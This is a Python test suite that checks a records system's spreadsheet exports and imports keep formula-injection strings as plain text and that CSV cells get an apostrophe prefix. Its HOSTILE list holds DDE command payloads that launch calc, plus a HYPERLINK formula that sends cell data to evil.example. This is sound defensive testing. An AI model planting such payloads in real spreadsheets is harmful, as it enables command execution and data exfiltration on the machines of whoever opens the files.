"""Formula-safe files everywhere (issue 16, part 2): hostile texts written through every export come back
from the XML as text (no <f> element), exactly as typed; imports keep such text as text; CSV cells get the
apostrophe spreadsheets expect."""

import csv
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx_text import Formula, csv_safe
from tests.assets.equipment_fixtures import reference, stations  # noqa: F401
from tests.vehicles.conftest import allocation, valid_vin  # noqa: F401

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
        )


def assert_safe(data: bytes, expected=HOSTILE) -> None:
    """No formula anywhere in the workbook, and every hostile text readable back as it was written."""
    assert not re.search(r"<(\w+:)?f[ >]", sheet_xml(data))
    book = load_workbook(io.BytesIO(data))
    seen = {
        c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }
    for text in expected:
        assert text in seen, text
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in expected:
                    assert c.data_type == "s" and c.quotePrefix


@pytest.mark.parametrize("write_only", [False, True])
def test_any_workbook_written_by_the_project_keeps_formulas_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    for text in HOSTILE:
        ws.append([text, 1, "plain"])
    if not write_only:
        ws.cell(row=20, column=1, value=HOSTILE[0])
    out = io.BytesIO()
    wb.save(out)
    assert_safe(out.getvalue())


def test_a_formula_meant_as_one_is_still_written():
    wb = Workbook()
    wb.active.append([1, 2, Formula("=SUM(A1:B1)")])
    out = io.BytesIO()
    wb.save(out)
    assert "<f>SUM(A1:B1)</f>" in sheet_xml(out.getvalue())


def test_csv_cells_get_an_apostrophe():
    assert [csv_safe(t) for t in HOSTILE[:2]] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert csv_safe("王伟") == "王伟" and csv_safe(12) == 12 and csv_safe(None) is None


# ---- every export ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_roll_export_and_template_write_a_hostile_remark_as_text(api, org, province_user):
    """The probe's case: the roll export wrote `=cmd|' /C calc'!A0` as a live formula."""
    from tests.personnel.factories import OfficerFactory

    for i, text in enumerate(HOSTILE):
        OfficerFactory(unit=org["430121"], name=f"测试{'甲乙丙丁戊己庚'[i]}", remarks=text, post=text[:50])
    for path in ("/personnel/roll/export", "/personnel/roll/template?city=430100"):
        r = api.as_(province_user).get(path)
        assert r.status_code == 200
        body = b"".join(r.streaming_content) if r.streaming else r.content
        assert_safe(body)


@pytest.mark.django_db
def test_the_roll_error_report_writes_hostile_values_as_text(org):
    from personnel.importers import RowError, error_workbook
    from tests.personnel.rollbook import book, row

    data = book([row(1, **{"备注": "无"})])
    errors = [RowError(5, "备注", text, text, "bad", 15) for text in HOSTILE]
    assert_safe(error_workbook(data, "roll.xlsx", errors, message=HOSTILE[1]))


@pytest.mark.django_db
def test_the_vehicle_register_export_writes_a_hostile_remark_as_text(api, org, province_user, allocation):
    from vehicles import services

    for text in HOSTILE:
        services.vehicle_create(
            actor=None,
            owning_unit=org["430100"],
            vin_code=valid_vin(),
            plate="",
            status="on_order",
            brand="大众",
            model=text[:50],
            vehicle_type="small_passenger",
            remarks=text,
        )
    from vehicles.models import Vehicle

    r = api.as_(province_user).get("/vehicles/export")
    assert r.status_code == 200
    stored = list(Vehicle.objects.values_list("remarks", flat=True))  # the service trims the tab and CR
    assert "=cmd|' /C calc'!A0" in stored and "=1+1" in stored
    assert_safe(r.content, stored)


def test_the_badge_list_writes_hostile_names_as_text():
    from distribution.exporters import badge_csv, badge_xlsx

    rows = [
        {"number": f"HN{i:05d}", "name": text, "unit": text, "gender": "F"} for i, text in enumerate(HOSTILE)
    ]
    assert_safe(badge_xlsx(rows))
    cells = [c for r in csv.reader(io.StringIO(badge_csv(rows))) for c in r]
    assert "'" + HOSTILE[0] in cells and HOSTILE[0] not in cells


def test_the_equipment_needs_workbook_writes_hostile_names_as_text():
    from types import SimpleNamespace

    from assets.equipment_exporters import gaps_workbook

    report = {
        "unit_name": HOSTILE[0],
        "as_of": "2026-12-01",
        "need": 1,
        "cost": 2,
        "stations_in_need": 1,
        "stations_without_required": 0,
        "children": [],
        "by_type": [{"type_code": "X", "type_name": HOSTILE[1], "need": 1, "unit_price": 1, "cost": 1}],
    }
    fields = "priority reason station_code station_name station_class type_name required serviceable"
    fields += " serviceable_past_life needs_repair unserviceable shortage replacement additional need"
    fields += " unit_price cost oldest_acquired_on"
    rows = [
        SimpleNamespace(**{f: 1 for f in fields.split()} | {"station_name": t, "reason": t}) for t in HOSTILE
    ]
    assert_safe(gaps_workbook(report, rows))


@pytest.mark.django_db
def test_the_equipment_import_keeps_hostile_text_as_text_and_exports_it_safely(
    reference, stations, county_user
):
    from assets.equipment_importers import COLUMNS, import_inventory
    from assets.equipment_models import EquipmentItem

    wb = Workbook()
    ws = wb.active
    ws.append([h for h, _k, _r in COLUMNS])
    ws.append([stations["cs1"].code, "IMP-F1", "BODYCAM", "SN-F1", None, None, "完好", "在用", HOSTILE[0]])
    out = io.BytesIO()
    wb.save(out)
    import_inventory(actor=county_user, unit=stations["cs1"].parent, data=out.getvalue())
    assert EquipmentItem.objects.get(asset_tag="IMP-F1").note == HOSTILE[0]  # as typed: text, not evaluated
